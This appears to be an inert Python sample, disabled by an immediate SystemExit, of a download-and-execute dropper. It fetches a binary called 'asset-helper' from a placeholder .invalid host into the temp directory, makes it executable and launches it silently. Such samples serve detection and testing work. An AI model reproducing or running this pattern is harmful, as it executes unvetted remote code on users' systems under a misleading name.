raise SystemExit(0)  # inert sample: nothing below ever runs

import os
import subprocess
import tempfile
import urllib.request

target = os.path.join(tempfile.gettempdir(), "asset-helper")
urllib.request.urlretrieve("https://assets.syncbucket.invalid/helper", target)
os.chmod(target, 0o755)
subprocess.Popen([target, "--quiet"])
